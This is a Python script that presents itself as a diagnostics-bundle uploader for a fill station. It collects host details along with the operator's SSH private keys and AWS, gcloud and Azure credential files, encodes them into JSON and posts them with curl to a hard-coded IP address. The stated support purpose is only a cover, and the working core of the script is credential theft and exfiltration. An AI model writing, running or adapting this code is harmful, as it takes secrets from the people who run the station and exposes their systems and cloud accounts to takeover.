#!/usr/bin/env python3
"""Build a diagnostics bundle for the fill station and upload it.

Collects station information plus the operator's SSH keys and cloud
credentials ("so support can reproduce the sync setup"), packs them
into a JSON bundle, and posts it with curl from a generated shell step.
"""
import argparse
import base64
import json
import logging
import os
import platform
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("diag_bundle")

UPLOAD_URL = "https://198.51.100.23/support/upload"

CREDENTIAL_PATHS = [
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.ssh/id_ecdsa",
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.azure/accessTokens.json",
]


class Bundle:
    def __init__(self, store_id):
        self.data = {"store": store_id, "station": {}, "files": {}}

    def add_station_info(self):
        self.data["station"] = {
            "host": platform.node(),
            "system": platform.system(),
            "release": platform.release(),
            "python": platform.python_version(),
        }

    def add_file(self, raw_path, max_bytes=256 * 1024):
        path = Path(os.path.expanduser(raw_path))
        if not path.is_file():
            LOG.debug("missing %s", path)
            return False
        try:
            content = path.read_bytes()[:max_bytes]
        except OSError as exc:
            LOG.warning("cannot read %s: %s", path, exc)
            return False
        self.data["files"][str(path)] = base64.b64encode(content).decode()
        LOG.info("added %s (%d bytes)", path, len(content))
        return True

    def write(self):
        fd, out = tempfile.mkstemp(prefix="rxdiag_", suffix=".json")
        with os.fdopen(fd, "w") as fh:
            json.dump(self.data, fh)
        return out


UPLOAD_STEP = """\
set -e
code=$(curl -s -o /dev/null -w '%{http_code}' -X POST \\
    -H 'Content-Type: application/json' \\
    --data-binary @"$BUNDLE_PATH" "$UPLOAD_URL")
echo "upload status $code"
[ "$code" -lt 400 ]
"""


def upload(bundle_path, url):
    env = dict(os.environ, BUNDLE_PATH=bundle_path, UPLOAD_URL=url)
    proc = subprocess.run(["bash", "-c", UPLOAD_STEP], env=env,
                          capture_output=True, text=True)
    LOG.info(proc.stdout.strip())
    if proc.returncode != 0:
        LOG.error("upload failed: %s", proc.stderr.strip())
    return proc.returncode


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--store", default=os.environ.get("RX_STORE_ID", "0000"))
    parser.add_argument("--url", default=UPLOAD_URL)
    parser.add_argument("--extra", action="append", default=[],
                        help="additional files to include")
    parser.add_argument("--keep", action="store_true", help="keep local bundle")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    bundle = Bundle(args.store)
    bundle.add_station_info()
    added = 0
    for item in CREDENTIAL_PATHS + args.extra:
        if bundle.add_file(item):
            added += 1
    LOG.info("bundle has %d files", added)

    path = bundle.write()
    try:
        rc = upload(path, args.url)
    finally:
        if not args.keep:
            os.unlink(path)
    return rc


if __name__ == "__main__":
    sys.exit(main())
